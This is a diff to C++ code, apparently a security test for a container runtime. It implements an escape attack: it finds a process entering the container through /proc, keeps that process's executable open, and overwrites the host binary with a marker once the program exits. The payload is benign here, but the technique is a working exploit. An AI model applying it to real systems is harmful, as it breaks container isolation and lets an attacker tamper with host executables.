@@ -93,28 +93,33 @@ int spy(double seconds, const char* canary) {
     return 0;
 }
 
+/// The program of somebody who enters this container, or -1. Ours are in /bin.
+int open_entering_program() {
+    int program = -1;
+    each_process([&](int pid) {
+        char path[64], name[256] = "";
+        std::snprintf(path, sizeof path, "/proc/%d/exe", pid);
+        if (program >= 0 || ::readlink(path, name, sizeof name - 1) < 0 || std::strncmp(name, "/bin/", 5) == 0) return;
+        program = ::open(path, O_RDONLY | O_CLOEXEC);
+    });
+    return program;
+}
+
+/// It is busy while it runs: the attack is to keep it open and to wait until it has ended everywhere.
 int overwrite(double seconds) {
     unsigned long opened = 0, written = 0;
-    for (const double end = now() + seconds; now() < end;)
-        each_process([&](int pid) {
-            char path[64], name[256] = "";
-            std::snprintf(path, sizeof path, "/proc/%d/exe", pid);
-            if (::readlink(path, name, sizeof name - 1) < 0 || std::strstr(name, "kist") == nullptr) return;
-            const int fd = ::open(path, O_RDONLY | O_CLOEXEC);
-            if (fd < 0) return;
-            ++opened;
-            char own[64];
-            std::snprintf(own, sizeof own, "/proc/self/fd/%d", fd);
-            for (int i = 0; i < 200; ++i) {
-                const int writable = ::open(own, O_WRONLY);
-                if (writable < 0) continue; // busy while it runs: the attack is to wait until it has ended
-                ++written;
-                (void)!::write(writable, "#!/overwritten\n", 15);
-                ::close(writable);
-                break;
-            }
-            ::close(fd);
-        });
+    int program = -1;
+    for (const double end = now() + seconds; now() < end && written == 0;) {
+        if (program < 0) opened += (program = open_entering_program()) >= 0 ? 1 : 0;
+        if (program < 0) continue;
+        char own[64];
+        std::snprintf(own, sizeof own, "/proc/self/fd/%d", program);
+        const int writable = ::open(own, O_WRONLY);
+        if (writable < 0) continue;
+        ++written;
+        (void)!::write(writable, "#!/overwritten\n", 15);
+        ::close(writable);
+    }
     std::printf("opened %lu written %lu\n", opened, written);
     return 0;
 }
